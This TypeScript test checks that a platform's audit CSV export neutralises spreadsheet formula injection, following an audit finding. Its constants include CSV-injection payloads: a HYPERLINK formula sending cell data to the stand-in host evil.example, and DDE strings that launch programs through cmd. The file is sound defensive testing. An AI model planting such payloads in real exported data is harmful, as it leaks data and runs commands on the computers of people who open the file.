import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestPlatform, type TestPlatform } from '../helpers/platform.js';

// Finding (low): the audit CSV export did not neutralise cells starting with "=". Attacker-chosen strings reach the
// audit log (a login name, a run id or flow key in a URL); opened in a spreadsheet, such a cell ran as a formula.
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")';
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
const PLUS = "+cmd|' /C notepad'!A0";
const MINUS = '-2+3+cmd';

/** Reads CSV the way a spreadsheet tool does (exceljs), each cell as the text it holds. */
async function cellsOf(csv: string): Promise<string[][]> {
  const wb = new ExcelJS.Workbook();
  const ws = await wb.csv.read(Readable.from([csv.replace(/^\uFEFF/, '')]), { map: (v: unknown) => v });
  const rows: string[][] = [];
  ws.eachRow((row) => { rows.push((row.values as unknown[]).slice(1).map((v) => (v === null || v === undefined ? '' : String(v)))); });
  return rows;
}

describe('audit CSV export neutralises formula-like cells', () => {
  let p: TestPlatform;
  beforeAll(async () => {
    p = await startTestPlatform({ simulators: false });
    for (const username of [HYPERLINK, DDE]) await p.requestAs(null, 'POST', '/api/v1/auth/login', { username, password: 'not-the-password-1' });
    await p.request('GET', `/api/v1/runs/${encodeURIComponent(HYPERLINK)}`);
    await p.request('GET', `/api/v1/runs/${encodeURIComponent(MINUS)}`);
    await p.request('POST', `/api/v1/flows/${encodeURIComponent(PLUS)}/runs`, {});
    await p.services.audit.flush();
  });
  afterAll(async () => { await p?.stop(); });

  it('no exported cell starts with =, +, -, @, tab or CR; the attacker strings are there, as text behind an apostrophe', async () => {
    const res = await fetch(`${p.apiUrl}/api/v1/audit/export?format=csv`, { headers: { authorization: `Bearer ${p.adminToken}` } });
    expect(res.status).toBe(200);
    const csv = await res.text();
    const rows = await cellsOf(csv);
    expect(rows[0]?.slice(0, 4)).toEqual(['seq', 'at', 'actorType', 'actorId']);
    const cells = rows.flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    // The run id and flow key taken from the URL are exported whole, neutralised, not dropped.
    expect(cells).toContain(`'${HYPERLINK}`);
    expect(cells).toContain(`'${MINUS}`);
    expect(cells).toContain(`'${PLUS}`);
    // The login names are in the export (prefixed by the actor kind, and in the detail JSON).
    expect(csv).toContain('login:=HYPERLINK(');
    expect(csv).toContain('login:@SUM(1+1)');
  });
});
